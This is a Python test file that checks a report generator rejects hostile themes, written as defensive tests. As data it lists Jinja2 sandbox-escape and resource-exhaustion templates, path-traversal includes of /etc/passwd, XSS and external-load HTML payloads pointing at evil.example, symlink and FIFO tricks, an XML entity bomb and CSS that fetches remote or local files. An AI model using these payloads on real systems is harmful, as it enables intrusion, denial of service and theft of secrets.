"""A theme is data: whatever it tries, it reads nothing else, runs nothing and comes to an end."""

import os
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread

import pytest

from gen.outcome import Verdict
from gen.pipeline import build_case
from gen.render.engine import start_engine
from gen.render.errors import PrintingError, ThemeError
from gen.render.imprint import Imprint
from gen.render.pdf import render_pdf
from gen.request import Request
from gen.resources import themes_root
from gen.settings import Settings
from tests.hostile.evil_themes import EXTENDS, SECRET, load, printed, write_theme
from tests.system.command import copy_sample
from tests.unit.render.sample_report import sample_report

LONG = "x" * 1000
TEMPLATES = {
    "class of a text": ("{{ ''.__class__.__mro__ }}", "SecurityError"),
    "class by a filter": ("{{ report | attr('__class__') }}", "SecurityError"),
    "globals of a function": ("{{ label.__init__.__globals__ }}", "SecurityError"),
    "globals of a macro": ("{{ joiner.__init__.__globals__.os.environ }}", "SecurityError"),
    "the template itself": ("{{ self.__dict__ }}", "SecurityError"),
    "code of a generator": ("{{ (report.sections | map('upper')).gi_code }}", "SecurityError"),
    "a list is changed": ("{{ [1].append(2) }}", "SecurityError"),
    "a table is changed": ("{{ {'a': 1}.update({}) }}", "SecurityError"),
    "a huge power": ("{{ 9 ** 9 ** 9 }}", "SecurityError"),
    "a huge repetition": ("{{ 'x' * 1000000000 }}", "SecurityError"),
    "a huge list": ("{{ [0] * 1000000000 }}", "SecurityError"),
    "a huge product": ("{{ 99999999999999 * 99999999999999 * 99999999999999 }}", "SecurityError"),
    "a wide format": ("{{ '%999999999d' % 1 }}", "SecurityError"),
    "a wide method": ("{{ 'x'.center(999999999) }}", "SecurityError"),
    "a wide format method": ("{{ '{:>999999999}'.format(1) }}", "SecurityError"),
    "a wide filter": ("{{ 'x' | center(999999999) }}", "TemplateAssertionError"),
    "a wide indent": ("{{ 'x' | indent(999999999) }}", "TemplateAssertionError"),
    "a huge rounding": ("{{ 1.5 | round(999999999) }}", "TemplateAssertionError"),
    "a huge batch": ("{{ [1] | batch(999999999, 'x') | list }}", "SecurityError"),
    "many pieces": ("{{ [1] | slice(999999999) | list }}", "SecurityError"),
    "chance": ("{{ [1, 2] | random }}", "TemplateAssertionError"),
    "a text as markup": ("{{ report.title | safe }}", "TemplateAssertionError"),
    "escaping off": ("{% autoescape false %}{{ report.title }}{% endautoescape %}", "Template"),
    "filler": ("{{ lipsum() }}", "UndefinedError"),
    "a long range": ("{% for i in range(10 ** 9) %}{% endfor %}", "SecurityError"),
    "a file above": ('{% include "../../../secret" %}', "TemplateNotFound"),
    "a file of the machine": ('{% include "/etc/passwd" %}', "TemplateNotFound"),
    "a module": ('{% import "os" as os %}{{ os.environ }}', "TemplateNotFound"),
    "a statement": ("{% do label %}", "TemplateSyntaxError"),
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_computes_little_and_sees_no_internals(name: str, tmp_path: Path) -> None:
    template, reason = TEMPLATES[name]
    write_theme(tmp_path, templates__html_j2=template)
    with pytest.raises(ThemeError) as caught:
        printed(tmp_path)
    assert caught.value.key == "theme.template"
    assert caught.value.facts["reason"].startswith(reason)
    assert SECRET not in str(caught.value)


def test_a_template_prints_no_endless_page(tmp_path: Path) -> None:
    body = f"{{% for i in range(99999) %}}{LONG}{{% endfor %}}"
    write_theme(tmp_path, templates__html_j2=body)
    with pytest.raises(ThemeError) as caught:
        printed(tmp_path)
    assert caught.value.key == "theme.output"


def test_a_template_that_never_ends_is_ended_and_the_next_report_is_printed(tmp_path: Path) -> None:
    loops = "".join(f"{{% for {name} in range(99999) %}}" for name in "abcd")
    folder = write_theme(tmp_path, templates__html_j2=loops + "{% endfor %}" * 4)
    settings = Settings.model_validate({"theme": "evil", "limits": {"seconds": 1}})
    case = copy_sample("face-recognition", tmp_path / "case")
    request = Request(
        case,
        tmp_path,
        settings,
        formats=("html",),
        theme_folders=(tmp_path / "themes", themes_root()),
    )
    built = build_case(request)
    assert built.verdict is Verdict.NOT_JUDGED
    assert [item.code for item in built.diagnostics] == ["INP034"]
    assert not (case / "dist").exists()
    (folder / "templates" / "html.j2").write_text(EXTENDS, "utf-8")
    assert build_case(request).verdict is Verdict.DELIVERABLE


ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script of elsewhere": '<script src="https://evil.example/x.js"></script>',
    "handler": '<p onclick="alert(1)">x</p>',
    "handler without a space": "<img/src='data:image/png,'/onerror=alert(1)>",
    "frame": '<iframe src="#"></iframe>',
    "object": '<object data="x"></object>',
    "form": '<form action="https://evil.example"><input name="a"></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "import": "<style>@import 'https://evil.example/x.css';</style>",
    "address in a style": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "picture": '<img src="https://evil.example/x.png" alt="">',
    "picture of the machine": '<img src="file:///etc/passwd" alt="">',
    "picture beside": '<img src="x.png" alt="">',
    "picture set": '<img srcset="https://evil.example/x.png 2x" alt="">',
    "drawing": '<svg><image xlink:href="https://evil.example/x.svg"/></svg>',
    "link that runs": '<a href="javascript:alert(1)">x</a>',
    "link that runs, hidden": '<a href=" java\tscript:alert(1)">x</a>',
    "link to data": '<a href="data:text/html,x">x</a>',
    "ping": '<a href="#x" ping="https://evil.example">x</a>',
    "comment that browsers end": "<!--><script>alert(1)</script>-->",
    "style in a drawing": "<svg><style><img src=x></style></svg>",
    "instruction": "<?xml-stylesheet href='x'?>",
}


@pytest.mark.parametrize("name", ACTIVE)
def test_a_page_is_there_to_be_read(name: str, tmp_path: Path) -> None:
    write_theme(tmp_path, templates__html_j2=ACTIVE[name])
    with pytest.raises(ThemeError) as caught:
        printed(tmp_path)
    assert caught.value.key == "theme.active"


def test_a_theme_that_only_looks_different_is_printed(tmp_path: Path) -> None:
    own = '<p style="color:red"><a href="https://firm.example">甲</a> <a href="#x">乙</a></p>'
    write_theme(tmp_path, templates__html_j2=own + '{% include "inherited/html.j2" %}')
    assert printed(tmp_path).startswith(own + "<!DOCTYPE html>")


def test_a_theme_has_no_script_of_its_own(tmp_path: Path) -> None:
    folder = write_theme(tmp_path)
    (folder / "script").mkdir()
    (folder / "script" / "contents.js").write_text("document.title = 'x'")
    with pytest.raises(ThemeError) as caught:
        printed(tmp_path)
    assert caught.value.key == "theme.script-own"


def _link(folder: Path) -> None:
    (folder / "templates").mkdir()
    (folder / "templates" / "html.j2").symlink_to(folder.parents[1] / "secret")


def _linked_folder(folder: Path) -> None:
    (folder / "css").symlink_to(folder.parents[1])


def _loop(folder: Path) -> None:
    for name in "ab":
        (folder / name).symlink_to(folder)


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "labels.toml")


def _device(folder: Path) -> None:
    (folder / "labels.toml").symlink_to("/dev/zero")


def _linked_theme(folder: Path) -> None:
    folder.rename(folder.parents[1] / "elsewhere")
    folder.symlink_to(folder.parents[1] / "elsewhere")


@pytest.mark.parametrize("make", [_link, _linked_folder, _loop, _fifo, _device, _linked_theme])
def test_a_theme_is_plain_files_in_its_own_folder(make, tmp_path: Path) -> None:
    make(write_theme(tmp_path))
    with pytest.raises(ThemeError) as caught:
        load(tmp_path)
    assert caught.value.key == "theme.unplain"


def test_a_theme_has_no_giant_file(tmp_path: Path) -> None:
    folder = write_theme(tmp_path)
    with (folder / "labels.toml").open("wb") as file:
        file.truncate(5 * 1024 * 1024)
    with pytest.raises(ThemeError) as caught:
        load(tmp_path)
    assert caught.value.key == "theme.too-large"


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><fontconfig>&b;</fontconfig>'
FONTS = {
    "fonts of the machine": ("<dir>/usr/share/fonts</dir>", "theme.fonts-reach"),
    "a folder above": ('<dir prefix="relative">../../..</dir>', "theme.fonts-reach"),
    "a file of elsewhere": ("<include>/etc/fonts/fonts.conf</include>", "theme.fonts-reach"),
    "a cache anywhere": ("<cachedir>/var/tmp/x</cachedir>", "theme.fonts-reach"),
    "another root": ('<remap-dir as-path="/a">/b</remap-dir>', "theme.fonts-reach"),
    "entities": (BOMB, "theme.unreadable"),
}


@pytest.mark.parametrize("name", FONTS)
def test_fonts_are_those_of_the_theme(name: str, tmp_path: Path) -> None:
    inside, key = FONTS[name]
    text = inside if inside.startswith("<!") else f"<fontconfig>{inside}</fontconfig>"
    write_theme(tmp_path, fonts__fonts_conf=text)
    with pytest.raises(ThemeError) as caught:
        start_engine(load(tmp_path))
    assert caught.value.key == key


@pytest.mark.parametrize("text", ["{", "[]", '{"faces": 1}', "[" * 9999, '{"faces": [{}]}'])
def test_a_wrong_description_of_fonts_is_passed_over(text: str, tmp_path: Path) -> None:
    from gen.render.font_coverage import coverage_of

    plain = '<fontconfig><dir prefix="relative">.</dir></fontconfig>'
    folder = write_theme(tmp_path, fonts__fonts_conf=plain, fonts__coverage_json=text)
    (folder / "fonts" / "broken.ttf").write_bytes(b"\0\1\0\0\xff\xff" + bytes(99))
    assert coverage_of(load(tmp_path)) is None


def test_a_stylesheet_loads_nothing_into_the_pdf(tmp_path: Path) -> None:
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)

    server = HTTPServer(("127.0.0.1", 0), Listener)
    Thread(target=server.serve_forever, daemon=True).start()
    there = f"http://127.0.0.1:{server.server_port}"
    secret = (tmp_path / "secret").as_uri()
    style = f"""
    @import "{there}/a.css"; @import url("{secret}");
    @font-face {{ font-family: X; src: url("{there}/x.ttf"), url("file:///etc/passwd") }}
    body {{ background: url("{there}/b.png"); list-style-image: url("../../../secret") }}
    p::before {{ content: url("{there}/c.png") }}
    """
    toml = 'inherit = "base"\npdf_styles = ["evil.css"]\n'
    write_theme(tmp_path, theme_toml=toml, css__evil_css=style)
    try:
        result = render_pdf(sample_report(), load(tmp_path), Imprint("0" * 64, "gen"))
    finally:
        server.shutdown()
        server.server_close()
    assert not asked
    refused = " ".join(result.refused)
    assert all(name in refused for name in ("a.css", "x.ttf", "b.png", "c.png", "passwd", "secret"))
    assert SECRET.encode() not in result.data


def test_a_colour_profile_is_not_loaded_either(tmp_path: Path) -> None:
    style = '@color-profile device-cmyk { src: url("file:///etc/passwd") }'
    toml = 'inherit = "base"\npdf_styles = ["evil.css"]\n'
    write_theme(tmp_path, theme_toml=toml, css__evil_css=style)
    with pytest.raises(PrintingError) as caught:
        render_pdf(sample_report(), load(tmp_path), Imprint("0" * 64, "gen"))
    assert caught.value.key == "render.resource"
